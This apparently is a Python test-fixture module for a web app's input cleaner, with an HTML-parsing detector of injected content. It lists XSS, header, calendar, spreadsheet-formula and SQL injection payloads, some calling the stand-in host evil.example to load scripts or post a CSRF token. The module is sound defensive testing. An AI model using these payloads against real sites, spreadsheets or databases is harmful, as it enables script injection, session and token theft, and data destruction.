"""Texts that have done harm somewhere, and what the one cleaner makes of each.

A text is shown as the text it is: nothing of it becomes markup, a header, a property of a calendar
or a formula. What no page needs (control characters, lone surrogates, marks that turn the
direction) goes at the door; what is too long for its field is refused there.
"""

from __future__ import annotations

from dataclasses import dataclass
from html.parser import HTMLParser
from urllib.parse import quote_plus


@dataclass(frozen=True)
class Hostile:
    """A text as it is sent, and what is kept of it in several lines and in one."""

    name: str
    sent: str
    text: str
    line: str

    @property
    def by_form(self) -> Hostile:
        """The same, sent by the form of a page, which knows no surrogates."""
        if not any("\ud800" <= sign <= "\udfff" for sign in self.sent):
            return self
        sent = "".join("\ufffd" if "\ud800" <= sign <= "\udfff" else sign for sign in self.sent)
        return Hostile(self.name, sent, sent, sent)


def _same(name: str, sent: str) -> Hostile:
    """A text that stays as it is."""
    return Hostile(name, sent, sent, sent)


def _cut(name: str, sent: str, kept: str) -> Hostile:
    """A text of one line of which only `kept` stays."""
    return Hostile(name, sent, kept, kept)


def _lines(name: str, sent: str, *lines: str) -> Hostile:
    """A text that becomes several lines, or one with blanks between."""
    return Hostile(name, sent, "\n".join(lines), " ".join(line for line in lines if line))


MARKUP = (
    _same("script", "<script>alert(1)</script>"),
    _same("script from elsewhere", "<script src=//evil.example/x.js></script>"),
    _same("end of a script", "</script><script>alert(2)</script>"),
    _same("image with an event", "<img src=x onerror=alert(3)>"),
    _same("quoted attribute", '" onmouseover="alert(4)" x="'),
    _same("single quoted attribute", "' autofocus onfocus='alert(5)' x='"),
    _same("bare attribute", "x onclick=alert(6)"),
    _same("drawing with an event", "<svg/onload=alert(7)>"),
    _same("drawing with a script", "<svg><script>alert&#40;8)</script></svg>"),
    _same("frame", '<iframe srcdoc="<script>alert(9)</script>"></iframe>'),
    _same("object", '<object data="data:text/html,<script>alert(10)</script>"></object>'),
    _same("other base", '<base href="https://evil.example/">'),
    _same("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    _same("style", "<style>*{background:url(//evil.example/)}</style>"),
    _same("style of an attribute", '<p style="position:fixed;inset:0">over all</p>'),
    _same("sheet", '<link rel="stylesheet" href="//evil.example/x.css">'),
    _same("form", '<form action="//evil.example/"><input name="csrf_token"><button>Save</button>'),
    _same("end of a text area", "</textarea><script>alert(11)</script>"),
    _same("end of a title", "</title><script>alert(12)</script>"),
    _same("end of a choice", "</option></select><img src=x onerror=alert(13)>"),
    _same("end of a page", "</main></body></html><h1>Kapstok is down</h1>"),
    _same("comment", "<!--><script>alert(14)</script-->"),
    _same("marked section", "<![CDATA[<script>alert(15)</script>]]>"),
    _same("mathematics", "<math><mtext><img src=x onerror=alert(16)></math>"),
    _same("template", "<template><script>alert(17)</script></template>"),
    _same("attribute of htmx", '<div hx-get="//evil.example/" hx-trigger="load">x</div>'),
    _same("attribute of ours", '<div data-presence="/sign-out" data-copy="#csrf_token">x</div>'),
    _same("half a tag", "<img src=x onerror=alert(18)//"),
    _same("entities", "&lt;script&gt;alert(19)&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;"),
    _same("backtick", "`onmouseover=alert(20)`"),
    _same("wide brackets", "\uff1cscript\uff1ealert(21)\uff1c/script\uff1e"),
)
ADDRESSES = (
    _same("script address", "javascript:alert(22)"),
    _same("script address in capitals", "JaVaScRiPt:alert(23)"),
    Hostile(
        "script address with a tab",
        "java\tscript:alert(24)",
        "java\tscript:alert(24)",
        "java script:alert(24)",
    ),
    _cut("script address behind a control", "\x01javascript:alert(25)", "javascript:alert(25)"),
    _same("data address", "data:text/html;base64,PHNjcmlwdD5hbGVydCgyNik8L3NjcmlwdD4="),
    _same("basic address", "vbscript:msgbox(27)"),
    _same("address without a scheme", "//evil.example/%0d%0aSet-Cookie:x=1"),
)
TEMPLATES = (
    _same("braces", "{{ 7*7 }} {% if 1 %}x{% endif %} {# gone #}"),
    _same("settings in braces", "{{ config.items() }} ${7*7} #{7*7}"),
    _same("places for words", "%(name)s %(password)s %s %d %n %"),
    _same("places for facts", "{0} {team.secret} {}"),
)
BREAKS = (
    _lines("bare CR", "first\rsecond", "first", "second"),
    _lines("CR and LF", "first\r\nsecond", "first", "second"),
    _lines(
        "mail header",
        "Hello\r\nBcc: evil@evil.example\r\n\r\nText",
        "Hello",
        "Bcc: evil@evil.example",
        "",
        "Text",
    ),
    _lines("answer header", "x\r\nSet-Cookie: a=1", "x", "Set-Cookie: a=1"),
    _lines(
        "end of an event",
        "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:false",
        "x",
        "END:VEVENT",
        "BEGIN:VEVENT",
        "UID:false",
    ),
    _lines(
        "property of a calendar",
        "x\nATTACH:https://evil.example/",
        "x",
        "ATTACH:https://evil.example/",
    ),
    _same("escapes of a calendar", "a\\nb\\;c\\,d;e,f:g"),
    _lines("next line", "a\x85b", "a", "b"),
    _cut("line separators", "a\u2028b\u2029c", "abc"),
)
FORMULAS = (
    _same("formula", '=HYPERLINK("https://evil.example/","click")'),
    _same("formula with a plus", "+1+cmd|' /C calc'!A0"),
    _same("formula with a minus", "-2+3+cmd|' /C calc'!A0"),
    _same("formula with an at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _lines("formula on a second line", "x\r\n=1+1", "x", "=1+1"),
    _same("formula behind a separator", 'x";=1+1;"y,=2+2'),
    _same("wide formula", "\uff1d1+1"),
    _same("query", "'; DROP TABLE post; --"),
)
SIGNS = (
    _cut("NUL", "be\x00fore", "before"),
    _cut("controls", "a\x01\x07\x08\x0b\x0c\x1b[31mb\x7f\x9f", "a[31mb"),
    _cut("lone high surrogate", "a\ud800b", "ab"),
    _cut("lone low surrogate", "a\udfffb", "ab"),
    _cut("surrogates the wrong way round", "\ude00\ud83d!", "!"),
    _cut("right to left", "invoice\u202efdp.exe", "invoicefdp.exe"),
    _cut("isolates", "\u2066a\u2069\u202bb\u202c", "ab"),
    _cut("byte order mark", "\ufeffa\ufffe\uffffb", "ab"),
    _same("Hebrew and Arabic", "שלום \u200f\u061c مرحبا"),
    _same("combined marks", "Z" + "\u0351\u036b" * 18),
    _same("signs of many parts", "👩‍⚕️🏳️‍🌈🇳🇱"),
    _cut("decomposed", "cafe\u0301", "café"),
    _same("zero width", "a\u200bb\u2060c"),
)
# Longer than some fields take: refused there, kept elsewhere.
LONG = (
    _same("a word of 4,000 letters", "Verpleegkundigen" * 250),
    Hostile(
        "30,000 letters", "zorg " * 6_000, ("zorg " * 6_000).strip(), ("zorg " * 6_000).strip()
    ),
    _same("100,000 letters", "x" * 100_000),
    _same("100,000 brackets", "<" * 100_000),
)
SHORT = (*MARKUP, *ADDRESSES, *TEMPLATES, *BREAKS, *FORMULAS, *SIGNS)
ALL = (*SHORT, *LONG)
# One of each kind, where the whole table takes too long.
FEW = tuple(
    one
    for one in ALL
    if one.name
    in {
        "script",
        "quoted attribute",
        "braces",
        "mail header",
        "formula",
        "NUL",
        "lone high surrogate",
        "right to left",
        "100,000 letters",
    }
)


def encoded(fields: list[tuple[str, str]]) -> bytes:
    """A form as a browser sends it, whatever its texts hold; surrogates as the bytes they have."""
    return "&".join(
        f"{quote_plus(name)}={quote_plus(value.encode('utf-8', 'surrogatepass'))}"
        for name, value in fields
    ).encode()


def harm_in(page: str) -> list[str]:
    """What no page of Kapstok has and a text would like to bring in, in the order of the page.

    An attribute for an event, a script or a sheet that is not ours, a frame, an address that runs.
    """
    reader = _Harm()
    reader.feed(page)
    reader.close()
    return reader.found


class _Harm(HTMLParser):
    """Gathers what does not belong on a page, as a browser takes it apart."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        marks = {name: value or "" for name, value in attrs}
        self.found += [f"{tag} {name}" for name in marks if name.startswith("on")]
        if tag in {"iframe", "object", "embed", "base", "style", "math", "applet"}:
            self.found.append(tag)
        if "style" in marks or marks.get("http-equiv"):
            self.found.append(f"{tag} that changes the page")
        ours = marks.get("src", "") or marks.get("href", "")
        if tag in {"script", "link"} and not ours.startswith("/"):
            self.found.append(f"{tag} {ours}")
        for name in ("href", "src", "action", "formaction", "hx-get", "hx-post", "data"):
            address = "".join(marks.get(name, "").split()).lower()
            runs = address.startswith(("javascript:", "data:", "vbscript:"))
            if runs or address.startswith(("//", "https://evil.", "http://evil.")):
                self.found.append(f"{tag} {name} {address}")
